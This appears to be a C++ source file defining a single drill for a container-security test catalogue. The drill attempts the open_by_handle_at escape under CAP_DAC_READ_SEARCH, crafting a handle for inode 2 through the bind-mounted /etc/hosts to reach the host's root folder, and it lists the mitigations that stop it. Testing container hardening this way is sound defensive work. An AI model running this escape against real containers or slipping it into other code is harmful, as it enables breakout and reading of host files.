#include <fcntl.h>
#include <linux/capability.h>

#include <cerrno>
#include <cstdint>
#include <cstring>

#include "base/fd.h"
#include "drills/catalogue.h"
#include "drills/past_check.h"

namespace taut::drills {

constinit const Drill cap_dac_read_search{
    .id = "cap_dac_read_search",
    .tag = Tag::kernel_capabilities,
    .kind = Kind::attack,
    .title = "open a file by its number, past every path",
    .goal = "read any file of the host's file system, of which the container's files are a part",
    .reference = "open_by_handle_at(2); MITRE ATT&CK T1611",
    .needs = "",
    .stopped_by = "non-root-user + drop-capabilities + seccomp-profile",
    .witness = "cap-dac-read-search",
    .not_shown =
        "nothing is read; which files of the host could be found that way depends on its file system",
    .capability = CAP_DAC_READ_SEARCH,
    .attempt =
        [](const Setting&) {
          // Docker mounts /etc/hosts from the host's own file system; inode 2 is the root folder of most of
          // these.
          UniqueFd mount(::open("/etc/hosts", O_RDONLY | O_CLOEXEC));
          if (!mount) mount.reset(::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
          if (!mount) return set_up_refused("open(2)", errno);
          constexpr std::uint32_t inode_and_generation[] = {2, 0};
          alignas(
              struct file_handle) char space[sizeof(struct file_handle) + sizeof inode_and_generation] = {};
          auto* handle = reinterpret_cast<struct file_handle*>(space);
          handle->handle_bytes = sizeof inode_and_generation;
          handle->handle_type = 1;  // FILEID_INO32_GEN
          std::memcpy(handle->f_handle, inode_and_generation, sizeof inode_and_generation);
          const UniqueFd root(::open_by_handle_at(mount.get(), handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
          if (root)
            return succeeded("open_by_handle_at(2)",
                             "opened the root folder of the file system that /etc/hosts lies on");
          return judged_past_check("open_by_handle_at(2)", -1, {ESTALE, EOPNOTSUPP, ENOTDIR},
                                   "the kernel allowed it; this file system has no folder of that number");
        },
};

}  // namespace taut::drills
